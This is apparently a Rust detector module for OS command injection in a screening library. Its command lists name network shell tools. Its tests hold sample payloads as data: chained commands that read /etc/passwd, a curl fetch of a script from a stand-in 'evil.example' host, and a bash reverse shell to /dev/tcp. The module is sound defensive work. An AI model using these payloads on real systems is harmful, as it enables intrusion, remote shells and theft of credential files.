//! OS command injection: a shell separator or substitution followed by a known command.
//!
//! Commands are split in two lists. "Strong" names (`whoami`, `wget`, `uname`, `ifconfig`,
//! `powershell`, ...) are not English words: after a separator they are reported as they stand.
//! "Word-like" names (`cat`, `ping`, `id`, `ls`, `echo`, `sleep`, `curl`, `bash`, ...) also
//! occur in prose after a semicolon ("lunch at 1; ping me"), so they need shell-looking
//! arguments: an option (`-la`), a path (`/etc/passwd`), a variable (`$HOME`), an address for
//! `ping`, a number for `sleep`, a URL for `curl`/`wget`, or the end of the value.
//!
//! Rule ids (sensitivity at which each applies):
//! - `cmdi.chained_command` (low: strong commands; medium+: word-like ones with shell-looking
//!   arguments; high: any listed command): after `;`, `|`, `||`, `&`, `&&`, a newline, `` ` ``
//!   or `$(`, spaces, `${IFS}`, quotes inside the name (`w'h'o'am'i`) and a directory prefix
//!   (`/bin/`) skipped.
//! - `cmdi.ifs` (low+): `${IFS}` / `$IFS$9`, the classic space substitute.
//! - `cmdi.brace_expansion` (medium+): `{cat,/etc/passwd}`.
//! - `cmdi.reverse_shell` (low+): `/dev/tcp/`, `/dev/udp/`.

use super::text::{at, find_ci, is_ws, lower_at, starts_ci, word_in, ByteSet, Words};
use super::Sensitivity;

const STRONG: Words = Words::new(&[
    b"whoami",
    b"wget",
    b"uname",
    b"ifconfig",
    b"ipconfig",
    b"nslookup",
    b"netstat",
    b"powershell",
    b"pwsh",
    b"certutil",
    b"bitsadmin",
    b"systeminfo",
    b"tasklist",
    b"busybox",
    b"chmod",
    b"chown",
    b"ncat",
    b"netcat",
    b"nc.exe",
    b"cmd.exe",
    b"mkfifo",
    b"socat",
    b"useradd",
    b"wmic",
    b"sh",
    b"zsh",
    b"ksh",
    b"csh",
    b"tcsh",
    b"passwd",
    b"printenv",
    b"crontab",
    b"nohup",
    b"tftp",
    b"xterm",
    b"telnet",
    b"rm",
    b"getent",
    b"lsb_release",
]);

const WORDLIKE: Words = Words::new(&[
    b"cat",
    b"ls",
    b"id",
    b"echo",
    b"ping",
    b"sleep",
    b"curl",
    b"bash",
    b"dash",
    b"nc",
    b"php",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"node",
    b"sort",
    b"head",
    b"tail",
    b"more",
    b"less",
    b"find",
    b"kill",
    b"ps",
    b"env",
    b"set",
    b"type",
    b"dir",
    b"net",
    b"cmd",
    b"ssh",
    b"cp",
    b"mv",
    b"touch",
    b"hostname",
    b"eval",
    b"exec",
    b"awk",
    b"sed",
    b"grep",
    b"base64",
    b"dig",
    b"which",
    b"pwd",
    b"who",
    b"w",
    b"ver",
    b"nmap",
    b"host",
    b"uptime",
    b"reboot",
    b"shutdown",
    b"start",
    b"call",
    b"del",
    b"copy",
    b"tar",
    b"nl",
    b"od",
    b"xxd",
]);

fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-')
}

/// After a separator at `i`: the command name (without quotes inside it), its end, and
/// whether it is in the strong or word-like list.
fn command_at(s: &[u8], mut i: usize) -> Option<(bool, usize, usize)> {
    // Spaces, `${IFS}`, `<` redirections and grouping before the name.
    loop {
        match at(s, i) {
            Some(b) if is_ws(b) || matches!(b, b'{' | b'(' | b'<') => i += 1,
            Some(b'$') if starts_ci(s, i, b"${ifs}") => i += 6,
            Some(b'$') if starts_ci(s, i, b"$ifs") => i += 4,
            _ => break,
        }
    }
    // A directory prefix: `/bin/sh`, `/usr/bin/id`, `c:\windows\system32\cmd.exe`.
    let mut start = i;
    let mut j = i;
    while let Some(b) = at(s, j) {
        if b == b'/' || b == b'\\' {
            start = j + 1;
        } else if !(is_name(b) || b == b':') {
            break;
        }
        j += 1;
        if j - i > 64 {
            return None;
        }
    }
    // Without the prefix first; a backslash may also be an escape inside the name (`c\at`).
    name_at(s, start).or_else(|| if start != i { name_at(s, i) } else { None })
}

/// The command name at `start` (quotes and backslashes inside it ignored: `w'h'o'am'i`,
/// `wh""oami`, `c\at`): (strong, start, end).
fn name_at(s: &[u8], start: usize) -> Option<(bool, usize, usize)> {
    let mut buf = [0u8; 16];
    let mut n = 0;
    let mut k = start;
    let mut quotes = 0;
    while let Some(b) = at(s, k) {
        if matches!(b, b'\'' | b'"' | b'\\') && n > 0 && quotes < 8 {
            quotes += 1;
            k += 1;
            continue;
        }
        if !is_name(b) || n == buf.len() {
            break;
        }
        if let Some(slot) = buf.get_mut(n) {
            *slot = b.to_ascii_lowercase();
        }
        n += 1;
        k += 1;
    }
    let name = buf.get(..n)?;
    if n == 0 || at(s, k).is_some_and(|b| is_name(b) || b == b'(') {
        return None;
    }
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    if STRONG.contains_word(name)
        || (name == b"cmd" && starts_ci(s, crate::screening::text::skip_ws(s, k), b"/c"))
    {
        Some((true, start, k))
    } else if WORDLIKE.contains_word(name) {
        Some((false, start, k))
    } else {
        None
    }
}

/// Whether what follows a word-like command looks like shell arguments.
fn shell_args(s: &[u8], name_start: usize, k: usize, loose_end: bool) -> bool {
    let rest = super::text::skip_ws(s, k);
    let b = at(s, rest);
    let spaced = rest > k || starts_ci(s, k, b"${ifs}") || starts_ci(s, k, b"$ifs");
    let rest = if starts_ci(s, k, b"${ifs}") {
        k + 6
    } else if starts_ci(s, k, b"$ifs") {
        k + 4
    } else {
        rest
    };
    let b = if rest == super::text::skip_ws(s, k) {
        b
    } else {
        at(s, rest)
    };
    match b {
        // The value ends here: `;id`, `|whoami`.
        None => loose_end,
        Some(b'-') => {
            at(s, rest + 1).is_some_and(|c| c.is_ascii_alphabetic() || c == b'-') && spaced
        }
        Some(b'/' | b'\\' | b'~' | b'$') => spaced,
        Some(b'.') => spaced && at(s, rest + 1).is_some_and(|c| c == b'/' || c == b'.'),
        Some(b';' | b'&' | b'`' | b')' | b'#' | b'>' | b'<' | b'\'' | b'"') => loose_end,
        Some(b'|') => !spaced,
        // A drive path: `dir c:\`, `type C:\Windows\win.ini`.
        Some(c)
            if spaced
                && c.is_ascii_alphabetic()
                && at(s, rest + 1) == Some(b':')
                && at(s, rest + 2).is_some_and(|c| c == b'\\' || c == b'/') =>
        {
            true
        }
        // `net user`, `net localgroup`.
        Some(_)
            if spaced
                && word_in(s, name_start, 3, &[b"net"])
                && (starts_ci(s, rest, b"user")
                    || starts_ci(s, rest, b"localgroup")
                    || starts_ci(s, rest, b"view")) =>
        {
            true
        }
        Some(c) if c.is_ascii_digit() && spaced => {
            // `sleep 5`, `ping 127.0.0.1`, `ping -c 3` (options handled above).
            let name_is = |w: &[u8]| word_in(s, name_start, w.len(), &[w]);
            let digits = s.get(rest..).map_or(0, |t| {
                t.iter()
                    .take_while(|c| c.is_ascii_digit() || **c == b'.')
                    .count()
            });
            let after = at(s, rest + digits);
            let after = if after.is_some_and(is_ws) {
                at(s, super::text::skip_ws(s, rest + digits))
            } else {
                after
            };
            let ends =
                after.is_none_or(|c| matches!(c, b';' | b'&' | b'|' | b'`' | b')' | b'#' | b'\n'));
            let address = s
                .get(rest..rest + digits)
                .is_some_and(|t| t.iter().filter(|&&c| c == b'.').count() == 3);
            (name_is(b"sleep") && ends) || ((name_is(b"ping") || name_is(b"nc")) && address)
        }
        Some(_) if spaced => {
            (word_in(s, name_start, 4, &[b"curl", b"wget"]) || word_in(s, name_start, 2, &[b"nc"]))
                && (starts_ci(s, rest, b"http://")
                    || starts_ci(s, rest, b"https://")
                    || starts_ci(s, rest, b"-"))
        }
        _ => false,
    }
}

/// The bytes a separator (or `$(`) starts with.
const SEPARATOR_STARTS: ByteSet = ByteSet::new(b";\n`|&$");

fn chained(s: &[u8], sens: Sensitivity) -> bool {
    let mut i = 0;
    loop {
        // Straight to the next byte that can start a separator: prose has few.
        let Some(off) = s
            .get(i..)
            .and_then(|t| t.iter().position(|&b| SEPARATOR_STARTS.contains(b)))
        else {
            return false;
        };
        i += off;
        let Some(&b) = s.get(i) else {
            return false;
        };
        let sep_len = match b {
            b';' | b'\n' | b'`' => 1,
            b'|' | b'&' => {
                if at(s, i + 1) == Some(b) {
                    2
                } else {
                    1
                }
            }
            b'$' if at(s, i + 1) == Some(b'(') => 2,
            _ => 0,
        };
        if sep_len == 0 {
            i += 1;
            continue;
        }
        let after = i + sep_len;
        // Skip quote characters closing the surrounding argument: `x';id`, `"|id`.
        let mut c = after;
        while matches!(at(s, c), Some(b'\'' | b'"')) && c - after < 2 {
            c += 1;
        }
        if let Some((strong, name_start, end)) = command_at(s, c) {
            // A backtick after a space opens a markdown code span as often as a substitution:
            // there the closing backtick is not evidence.
            let loose_end = b != b'`' || i == 0 || at(s, i - 1).is_some_and(|p| !is_ws(p));
            let hit = match sens {
                Sensitivity::Low => strong,
                Sensitivity::Medium => strong || shell_args(s, name_start, end, loose_end),
                Sensitivity::High => true,
            };
            if hit {
                return true;
            }
        }
        i += sep_len;
    }
}

fn brace_expansion(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = find_ci(s, b"{", from) {
        from = p + 1;
        if let Some((_, _, end)) = command_at(s, p + 1) {
            if at(s, end) == Some(b',') {
                return true;
            }
        }
    }
    false
}

/// `/dev/tcp/` or `/dev/udp/` anywhere: one search for their common start (paths and URLs,
/// screened on every request, hold slashes).
fn reverse_shell(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = find_ci(s, b"/dev/", from) {
        if starts_ci(s, p + 5, b"tcp/") || starts_ci(s, p + 5, b"udp/") {
            return true;
        }
        from = p + 1;
    }
    false
}

/// The rule id of the first command-injection pattern in `s` (already decoded), if any.
pub fn detect(s: &[u8], mask: u32, sens: Sensitivity) -> Option<&'static str> {
    use super::decode as d;
    if mask
        & (d::SEMI | d::PIPE | d::AMP | d::DOLLAR | d::NEWLINE | d::BACKTICK | d::BRACE | d::SLASH)
        == 0
    {
        return None;
    }
    if mask & d::DOLLAR != 0
        && (find_ci(s, b"${ifs}", 0).is_some() || find_ci(s, b"$ifs$", 0).is_some())
    {
        return Some("cmdi.ifs");
    }
    if mask & d::SLASH != 0 && reverse_shell(s) {
        return Some("cmdi.reverse_shell");
    }
    if mask & (d::SEMI | d::PIPE | d::AMP | d::DOLLAR | d::NEWLINE | d::BACKTICK) != 0
        && chained(s, sens)
    {
        return Some("cmdi.chained_command");
    }
    if sens >= Sensitivity::Medium && mask & d::BRACE != 0 && brace_expansion(s) {
        return Some("cmdi.brace_expansion");
    }
    let _ = lower_at;
    None
}

#[cfg(test)]
mod tests {
    use super::super::decode::scan;
    use super::*;

    fn check(s: &str, sens: Sensitivity) -> Option<&'static str> {
        detect(s.as_bytes(), scan(s.as_bytes()), sens)
    }

    #[test]
    fn detects_table() {
        let cases: &[(&str, &str)] = &[
            (";id", "cmdi.chained_command"),
            ("127.0.0.1; cat /etc/passwd", "cmdi.chained_command"),
            ("x | whoami", "cmdi.chained_command"),
            ("x && ls -la", "cmdi.chained_command"),
            ("`id`", "cmdi.chained_command"),
            ("$(whoami)", "cmdi.chained_command"),
            ("a;/bin/sh -c id", "cmdi.chained_command"),
            ("x;w'h'o'am'i", "cmdi.chained_command"),
            ("x\nping -c 3 10.0.0.1", "cmdi.chained_command"),
            ("1; sleep 5", "cmdi.chained_command"),
            ("x|curl http://evil.example/s.sh", "cmdi.chained_command"),
            (";cat${IFS}/etc/passwd", "cmdi.ifs"),
            ("{cat,/etc/passwd}", "cmdi.brace_expansion"),
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "cmdi.reverse_shell",
            ),
            ("x; powershell -nop", "cmdi.chained_command"),
        ];
        for (s, want) in cases {
            assert_eq!(check(s, Sensitivity::Medium), Some(*want), "{s}");
        }
    }

    #[test]
    fn benign_table() {
        for s in [
            "Lunch is at 1; ping me if you're late",
            "Bring snacks; cat lovers welcome",
            "| id | name |\n|----|------|\n| 1 | cat |",
            "Tom & Jerry",
            "R&D; sleep 8 hours a night",
            "Run `npm install` first",
            "The `id` field is required",
            "$(document).ready(fn)",
            "Python 3.12; python developers welcome",
            "AT&T and T-Mobile",
        ] {
            assert_eq!(check(s, Sensitivity::Medium), None, "{s}");
        }
    }

    #[test]
    fn sensitivity_changes_reach() {
        assert_eq!(check("x; cat /etc/passwd", Sensitivity::Low), None);
        assert_eq!(
            check("x; whoami", Sensitivity::Low),
            Some("cmdi.chained_command")
        );
        assert_eq!(
            check("hi; cat lovers", Sensitivity::High),
            Some("cmdi.chained_command")
        );
    }
}
